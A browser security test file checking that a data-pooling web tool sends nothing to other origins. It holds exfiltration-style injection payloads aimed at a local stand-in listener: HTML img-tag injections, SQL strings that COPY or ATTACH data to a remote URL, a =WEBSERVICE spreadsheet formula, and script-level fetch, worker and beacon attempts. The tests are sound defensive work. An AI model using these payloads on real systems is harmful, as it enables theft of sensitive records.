import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { closeBrowser, newContext, settled } from '../support/browser';
import { type Listener, listen } from '../support/listener';

let other: Listener;

beforeAll(async () => {
  other = await listen();
});
afterAll(async () => {
  await other.close();
  await closeBrowser();
});

describe('nothing leaves the browser', () => {
  let context: Awaited<ReturnType<typeof newContext>>;
  const foreign: string[] = [];

  beforeEach(async () => {
    foreign.length = 0;
    context = await newContext();
    context.on('request', (request) => {
      const url = new URL(request.url());
      const own = new URL(context.pages()[0]?.url() ?? 'about:blank');
      if (url.protocol.startsWith('http') && own.protocol.startsWith('http') && url.host !== own.host)
        foreign.push(request.url());
    });
  });
  afterEach(() => context.close());

  test('the listener on another origin hears a request that is allowed, so its silence means something', async () => {
    expect((await fetch(`${other.url}/heard`)).ok).toBe(true);
    expect(other.heard).toContain('/heard');
  });

  test('a hostile file name, header, cell and link reach no other origin', async () => {
    const page = await context.newPage();
    const lure = (name: string) => `${other.url}/${name}`;
    await page.goto(
      `/data/?la=${encodeURIComponent(`<img src=${lure('url')}>`)}&x.${encodeURIComponent(lure('bespoke'))}=${encodeURIComponent(`'; COPY pool TO '${lure('sql')}'; --`)}`,
    );
    await settled(page);
    await page.getByRole('button', { name: 'Start an empty pool' }).click();
    await settled(page);
    const header = `la_code,childId,referralDate,"'); COPY pool TO '${lure('header')}'; --",<img src=${lure('column')}>`;
    const row = `E06000066,"<img src=${lure('cell')}>",2025-04-01,"=WEBSERVICE(""${lure('formula')}"")","'); ATTACH '${lure('attach')}'; --"`;
    const buffer = Buffer.from(`${header}\n${row}\n`);
    await page.getByLabel('Add files').setInputFiles([
      { name: `${lure('name')}.csv`.replaceAll('/', '_'), mimeType: 'text/csv', buffer },
      {
        name: "read_csv('http)'.csv",
        mimeType: 'text/csv',
        buffer: Buffer.from(buffer.toString().replace('<img src', '<img  src')),
      },
    ]);
    await page.waitForFunction(() => Number(document.documentElement.dataset.poolRows) > 0, undefined, {
      timeout: 30_000,
    });
    for (const screen of ['Needs', 'Overview', 'Data']) {
      await page.getByRole('navigation', { name: 'Screens' }).getByRole('link', { name: screen }).click();
      await settled(page);
    }
    expect(foreign).toEqual([]);
    expect(other.heard.filter((path) => path !== '/heard')).toEqual([]);
  });

  test('script in the page itself is refused another origin by the policy', async () => {
    const page = await context.newPage();
    await page.goto('/');
    await settled(page);
    const attempts = await page.evaluate(async (url) => {
      const refused = async (attempt: () => Promise<unknown>) =>
        attempt().then(
          () => 'reached',
          () => 'refused',
        );
      const image = () =>
        new Promise((resolve, reject) => {
          const element = new Image();
          element.onload = resolve;
          element.onerror = reject;
          element.src = `${url}/image`;
        });
      const blobWorker = () =>
        new Promise((resolve, reject) => {
          const code = `fetch('${url}/worker').then(() => postMessage(1), () => postMessage(0))`;
          const worker = new Worker(URL.createObjectURL(new Blob([code])));
          worker.onmessage = ({ data }) => (data === 1 ? resolve(1) : reject(new Error('refused')));
          worker.onerror = reject;
        });
      return {
        fetch: await refused(() => fetch(`${url}/fetch`)),
        image: await refused(image),
        worker: await refused(blobWorker),
        beacon: navigator.sendBeacon(`${url}/beacon`, 'x') ? 'queued' : 'refused',
        eval: await refused(async () => new Function('return 1')()),
      };
    }, other.url);
    expect(attempts).toMatchObject({ fetch: 'refused', image: 'refused', worker: 'refused', eval: 'refused' });
    expect(other.heard.filter((path) => path !== '/heard')).toEqual([]);
  });
});
